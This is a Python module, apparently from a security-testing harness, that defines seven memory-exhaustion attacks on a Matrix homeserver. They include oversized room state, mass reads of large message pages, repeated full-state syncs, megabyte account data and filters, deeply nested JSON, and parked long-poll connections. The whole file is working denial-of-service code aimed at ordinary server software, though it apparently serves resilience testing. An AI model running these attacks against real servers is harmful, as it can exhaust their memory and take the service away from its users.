"""Attacks on the server's memory."""

import itertools
import json
import time

from attacks.mallory import CONTENT, send_path, state_path, zeros
from attacks.registry import attack, raw
from matrix import V3, quote


@attack
def large_state(mallory):
    """A room's state of 20 MB whose parsed form takes a gigabyte."""
    room, body = mallory.room(), zeros(CONTENT)
    for number in itertools.count():
        yield "PUT", state_path(room, "org.big", f"k{number % 350}"), body


@attack
def large_state_in_many_rooms(mallory):
    """The same amount of state spread over many rooms, so that no room is large."""
    rooms, body = [mallory.room() for _ in range(20)], zeros(CONTENT)
    for number in itertools.count():
        yield "PUT", state_path(rooms[number % 20], "org.big", f"k{number // 20 % 40}"), body


@attack
def large_messages_read_back(mallory):
    """Pages of a thousand events of 60 KB each, read by sixteen clients at once."""
    room, body = mallory.room(), json.dumps({"msgtype": "m.text", "body": "x" * CONTENT}).encode()
    for number in itertools.count():
        if number < 300 or number % 4:
            yield "PUT", send_path(room, number), body
        if number >= 300:
            yield "GET", f"{V3}/rooms/{quote(room)}/messages?dir=b&limit=1000000", b""


@attack
def whole_syncs(mallory):
    """First syncs with the whole state of heavy rooms, over and over."""
    rooms = [mallory.room(initial_state=[
        {"type": "org.big", "state_key": str(key), "content": {"t": "y" * 30_000}} for key in range(20)
    ]) for _ in range(10)]
    choice = quote(json.dumps({"room": {"timeline": {"limit": 1000}, "state": {"lazy_load_members": False}}}))
    while rooms:
        yield "GET", f"{V3}/sync?full_state=true&timeout=0&filter={choice}", b""


@attack
def account_data_of_megabytes(mallory):
    """Tags and account data that make a record too large to be sent."""
    room, text = mallory.room(), "z" * 900_000
    me = f"{V3}/user/{quote(mallory.me.user_id)}"
    for number in itertools.count():
        body = json.dumps({"order": 0.5, "text": text}).encode()
        yield "PUT", f"{me}/rooms/{quote(room)}/tags/u.tag{number % 50}", body
        yield "PUT", f"{me}/account_data/org.data{number}", body
        yield "PUT", f"{me}/rooms/{quote(room)}/account_data/org.data{number}", body
        yield "POST", f"{me}/filter", json.dumps({"room": {"rooms": [f"!{number}:{text}"]}}).encode()


@attack
def deep_account_data(mallory):
    """Content that can be stored, but nests too deeply to be read again."""
    me = f"{V3}/user/{quote(mallory.me.user_id)}"
    for number in itertools.count():
        depth = 90 + number % 40
        yield "PUT", f"{me}/account_data/org.deep{number}", b'{"a":' * depth + b"1" + b"}" * depth
        yield "GET", f"{V3}/sync?timeout=0", b""


@raw
def many_parked_syncs(mallory):
    """Long polls, each of which keeps a connection, a thread and what it has read."""
    since = mallory.do("GET", f"{V3}/sync")["next_batch"]

    def park(connection):
        connection.sendall(
            f"GET {V3}/sync?timeout=30000&since={since} HTTP/1.1\r\nHost: a\r\n"
            f"Authorization: Bearer {mallory.me.token}\r\n\r\n".encode())
        time.sleep(30)

    while True:
        yield park
